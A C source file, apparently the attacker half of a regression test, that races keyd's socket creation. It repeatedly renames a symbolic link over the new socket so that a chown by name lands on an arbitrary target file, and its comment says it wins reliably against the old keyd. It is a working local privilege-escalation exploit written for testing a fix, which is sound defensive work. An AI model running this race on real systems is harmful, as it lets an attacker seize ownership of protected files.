/*
 * race_rename SOCKET TARGET TMP: the attacker of socket_race.sh. In a tight
 * loop, as soon as a socket appears at SOCKET, renames a symbolic link to
 * TARGET (made beforehand at TMP) over it. Stops after 10 minutes, or when
 * killed. Written in C because the window it races, between keyd's bind()
 * and a chown by name, is a few microseconds: a perl loop never hit it in
 * 200 starts, this one hits it within a few dozen against the old keyd.
 */
#include <stdio.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define RACE_MAX_S 600

int
main(int argc, char **argv)
{
	struct stat st;
	time_t end = time(NULL) + RACE_MAX_S;
	unsigned long n = 0;

	if (argc != 4) {
		fprintf(stderr, "usage: race_rename SOCKET TARGET TMP\n");
		return 2;
	}
	(void)!symlink(argv[2], argv[3]);
	/* The clock is read once every 65536 turns only. */
	while ((n++ & 0xffff) != 0 || time(NULL) < end) {
		if (lstat(argv[1], &st) == 0 && S_ISSOCK(st.st_mode)) {
			(void)rename(argv[3], argv[1]);
			(void)!symlink(argv[2], argv[3]);
		}
	}
	return 0;
}
